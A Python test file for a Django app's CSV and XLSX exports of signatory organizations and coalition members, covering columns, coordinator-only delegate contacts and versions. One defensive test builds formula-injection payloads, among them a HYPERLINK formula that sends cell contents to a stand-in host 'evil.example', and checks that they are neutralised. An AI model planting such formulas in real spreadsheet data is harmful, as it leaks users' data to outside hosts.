"""The spreadsheets of a statement's organizations and of a coalition's members: CSV (streamed)
and XLSX (read back with openpyxl); the delegates' contacts for the coordinators only; cells that
a spreadsheet would read as formulas defused."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from undersigned.coalitions.models import (
    Coalition,
    CoalitionRole,
    Delegate,
    Membership,
    Organization,
)
from undersigned.signing.actions import reconfirm_signature, sign_statement
from undersigned.signing.selectors import signatory_list
from undersigned.statements.actions import change_state, create_statement, edit_text
from undersigned.statements.models import State

STATEMENT_KEYS = [
    "number",
    "organization",
    "abbreviation",
    "name",
    "name_en",
    "country",
    "signed_version",
    "signed_on",
    "current_version",
]
CONTACT_KEYS = ["delegates", "delegate_emails"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming  # rows go out as they are read
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def read_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def signed(open_statement, dave, mlpd):
    """Dave signs the open statement for the MLPD."""
    sign_statement(statement=open_statement, organization=mlpd, user=dave, version=1)
    dave.first_name, dave.last_name = "Dave", "Delegate"
    dave.save()
    return open_statement


def test_the_resolutions_organizations_come_as_the_list_numbers_them(client, resolution):
    rows = read_csv(client.get(f"/s/{resolution.slug}/organizations.csv"))
    entries = signatory_list(resolution).entries
    assert len(rows) == len(entries) == 34
    assert list(rows[0]) == STATEMENT_KEYS
    for row, entry in zip(rows, entries, strict=True):
        organization = entry.organization
        assert row["number"] == str(entry.number)
        assert row["organization"] == organization.slug
        assert (row["abbreviation"], row["name"], row["name_en"]) == (
            organization.abbreviation,
            organization.name,
            organization.name_en,
        )
        assert row["country"] == (organization.country.code or "")
        assert (row["signed_version"], row["signed_on"], row["current_version"]) == (
            "1",
            "2021-09-15",
            "yes",
        )


def test_the_xlsx_reads_back_as_the_csv(client, resolution):
    rows = read_csv(client.get(f"/s/{resolution.slug}/organizations.csv"))
    sheet = read_xlsx(client.get(f"/s/{resolution.slug}/organizations.xlsx"))
    values = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "Organizations"
    assert values[0] == (
        "No.",
        "Organization",
        "Abbreviation",
        "Name in its own language",
        "English name",
        "Country",
        "Signed version",
        "Signed on",
        "Signed the current version",
    )
    assert len(values) == 1 + len(rows)
    for row, cells in zip(rows, values[1:], strict=True):
        number, slug, abbreviation, name, name_en, country, version, signed_on, current = cells
        assert (number, version, current) == (int(row["number"]), 1, True)
        assert signed_on == dt.datetime(2021, 9, 15)  # a date cell, not text
        assert [slug, abbreviation or "", name, name_en or "", country or ""] == [
            row[key] for key in STATEMENT_KEYS[1:6]
        ]


def test_the_statement_page_links_its_organizations_as_xlsx_and_csv(client, resolution):
    page = client.get(f"/s/{resolution.slug}/").content.decode()
    assert f'href="/s/{resolution.slug}/organizations.xlsx"' in page
    assert f'href="/s/{resolution.slug}/organizations.csv"' in page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_only_the_coordinators_and_staff_see_the_delegates(client, signed, carol, alice, bob, fmt):
    frank = get_user_model().objects.create_user("frank", "frank@example.org", "x")
    other = Coalition.objects.create(abbreviation="CIPOML", name="CIPOML")
    CoalitionRole.objects.create(user=frank, coalition=other, kind=CoalitionRole.Kind.COORDINATOR)
    url = f"/s/{signed.slug}/organizations.{fmt}"
    seen = {}
    for who in (None, "bob", "dave", "frank", "carol", "alice"):
        client.logout()
        if who:
            client.force_login(get_user_model().objects.get(username=who))
        response = client.get(url)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if fmt == "xlsx":
            cells = [c for row in read_xlsx(response).iter_rows(values_only=True) for c in row]
            content = "\n".join(str(c) for c in cells).encode()
        seen[who] = (b"dave@example.org" in content, b"Dave Delegate" in content)
        private = "private" in response.get("Cache-Control", "")
        assert private == (who in ("carol", "alice"))
    assert seen == {
        None: (False, False),
        "bob": (False, False),
        "dave": (False, False),  # a delegate is not a coordinator
        "frank": (False, False),  # another coalition's coordinator
        "carol": (True, True),
        "alice": (True, True),
    }


def test_the_coordinators_csv_names_each_delegate(client, signed, carol, mlpd):
    second = get_user_model().objects.create_user("gina", "gina@example.org", "x")
    Delegate.objects.create(user=second, organization=mlpd)
    gone = get_user_model().objects.create_user("hal", "hal@example.org", "x", is_active=False)
    Delegate.objects.create(user=gone, organization=mlpd)
    client.force_login(carol)
    [row] = read_csv(client.get(f"/s/{signed.slug}/organizations.csv"))
    assert list(row) == STATEMENT_KEYS + CONTACT_KEYS
    assert row["delegates"] == "Dave Delegate; gina"
    assert row["delegate_emails"] == "dave@example.org; gina@example.org"


def test_formulas_are_defused_in_the_csv_and_strings_in_the_xlsx(client, open_statement, icor):
    evil = Organization.objects.create(abbreviation="+CMD", name=EVIL, name_en="-2+3", country="FR")
    Membership.objects.create(coalition=icor, organization=evil)
    person = get_user_model().objects.create_user(
        "mallory", "@mallory@example.org", "x", first_name="=1+1"
    )
    Delegate.objects.create(user=person, organization=evil)
    sign_statement(statement=open_statement, organization=evil, user=person, version=1)
    coordinator = get_user_model().objects.create_user("root", "root@example.org", "x")
    coordinator.is_staff = True
    coordinator.save()
    client.force_login(coordinator)

    [row] = read_csv(client.get(f"/s/{open_statement.slug}/organizations.csv"))
    assert row["abbreviation"] == "'+CMD"
    assert row["name"] == "'" + EVIL
    assert row["name_en"] == "'-2+3"
    assert row["delegates"] == "'=1+1"
    assert row["delegate_emails"] == "'@mallory@example.org"

    response = client.get(f"/s/{open_statement.slug}/organizations.xlsx")
    row = list(read_xlsx(response).iter_rows())[1]
    texts = {cell.value: cell.data_type for cell in row if isinstance(cell.value, str)}
    # The words as typed, in cells of text: nothing for the spreadsheet to compute.
    assert texts[EVIL] == texts["+CMD"] == texts["-2+3"] == texts["=1+1"] == "s"
    assert texts["@mallory@example.org"] == "s"
    assert not any(cell.data_type == "f" for cell in row)


def test_a_signature_of_an_older_version_is_not_the_current_one(client, signed, carol, dave, mlpd):
    url = f"/s/{signed.slug}/organizations.csv"
    edit_text(statement=signed, user=carol, title="Solidarity", subtitle="", body="New words.")
    [row] = read_csv(client.get(url))
    assert (row["signed_version"], row["current_version"]) == ("1", "no")
    reconfirm_signature(statement=signed, organization=mlpd, user=dave, version=2)
    [row] = read_csv(client.get(url))
    assert (row["signed_version"], row["current_version"]) == ("2", "yes")


def test_a_draft_s_organizations_are_as_hidden_as_the_draft(client, draft, carol):
    assert client.get(f"/s/{draft.slug}/organizations.csv").status_code == 404
    client.force_login(carol)
    assert read_csv(client.get(f"/s/{draft.slug}/organizations.csv")) == []


def test_an_unknown_format_is_not_there(client, resolution):
    assert client.get(f"/s/{resolution.slug}/organizations.ods").status_code == 404
    assert client.get(f"/c/{resolution.coalition.slug}/members.ods").status_code == 404


def _statement(carol, icor, title):
    return create_statement(
        user=carol,
        coalition=icor,
        kind="statement",
        issuer="",
        language="en",
        title=title,
        subtitle="",
        body="Words.",
    )


def test_a_coalitions_members_with_their_signature_of_each_public_statement(
    client, icor, signed, rode_morgen, carol
):
    closed = change_state(
        statement=change_state(
            statement=_statement(carol, icor, "Earlier"), user=carol, state=State.OPEN
        ),
        user=carol,
        state=State.CLOSED,
    )
    hidden = _statement(carol, icor, "Not yet")  # a draft: not listed
    rows = read_csv(client.get(f"/c/{icor.slug}/members.csv"))
    assert list(rows[0]) == [*STATEMENT_KEYS[1:6], "statement", *STATEMENT_KEYS[6:]]
    got = {(r["organization"], r["statement"]): r["signed_version"] for r in rows}
    mlpd, rm = signed.signatures.get().organization.slug, rode_morgen.slug
    assert got == {
        (mlpd, signed.slug): "1",
        (mlpd, closed.slug): "",
        (rm, signed.slug): "",
        (rm, closed.slug): "",
    }
    assert hidden.slug not in {r["statement"] for r in rows}
    narrowed = read_csv(client.get(f"/c/{icor.slug}/members.csv?statement={signed.slug}"))
    assert {(r["organization"], r["current_version"]) for r in narrowed} == {
        (mlpd, "yes"),
        (rm, ""),
    }
    assert client.get(f"/c/{icor.slug}/members.csv?statement={hidden.slug}").status_code == 404
    assert client.get("/c/nobody/members.csv").status_code == 404


def test_the_members_xlsx_reads_back_and_the_coordinator_sees_contacts(client, icor, signed, carol):
    sheet = read_xlsx(client.get(f"/c/{icor.slug}/members.xlsx"))
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "Members"
    assert "Delegates" not in header
    assert rows == [
        (
            "mlpd-de",
            "MLPD",
            "Marxistisch-Leninistische Partei Deutschlands",
            "Marxist-Leninist Party of Germany",
            "DE",
            signed.slug,
            1,
            rows[0][7],
            True,
        )
    ]
    assert isinstance(rows[0][7], dt.datetime)
    client.force_login(carol)
    header, *rows = list(
        read_xlsx(client.get(f"/c/{icor.slug}/members.xlsx")).iter_rows(values_only=True)
    )
    assert header[-2:] == ("Delegates", "Delegates' e-mails")
    assert rows[0][-2:] == ("Dave Delegate", "dave@example.org")


def test_the_coalition_page_links_the_members(client, icor, mlpd, carol):
    page = client.get(f"/c/{icor.slug}/").content.decode()
    assert f'href="/c/{icor.slug}/members.xlsx"' in page
    assert f'href="/c/{icor.slug}/members.csv"' in page
    assert "only the coordinators see" not in page
    client.force_login(carol)
    assert "only the coordinators see" in client.get(f"/c/{icor.slug}/").content.decode()


def test_in_persian_the_xlsx_reads_right_to_left_with_persian_headers(client, resolution):
    response = client.get(f"/fa/s/{resolution.slug}/organizations.xlsx")
    sheet = read_xlsx(response)
    assert sheet.sheet_view.rightToLeft
    header = next(sheet.iter_rows(values_only=True))
    assert header[1] == "سازمان"
    csv_header = b"".join(
        client.get(f"/fa/s/{resolution.slug}/organizations.csv").streaming_content
    ).split(b"\r\n")[0]
    assert csv_header.decode() == ",".join(STATEMENT_KEYS)  # the CSV's keys are for scripts


def test_the_sheets_read_in_as_many_queries_for_many_organizations(client, icor, signed, carol):
    def queries(url: str) -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            b"".join(response.streaming_content)
        return len(captured.captured_queries)

    client.force_login(carol)
    urls = [f"/c/{icor.slug}/members.csv", f"/s/{signed.slug}/organizations.csv"]
    before = [queries(url) for url in urls]
    for n in range(5):
        organization = Organization.objects.create(name=f"Union {n}", country="AT")
        Membership.objects.create(coalition=icor, organization=organization)
        person = get_user_model().objects.create_user(f"d{n}", f"d{n}@example.org", "x")
        Delegate.objects.create(user=person, organization=organization)
        sign_statement(statement=signed, organization=organization, user=person, version=1)
    assert [queries(url) for url in urls] == before
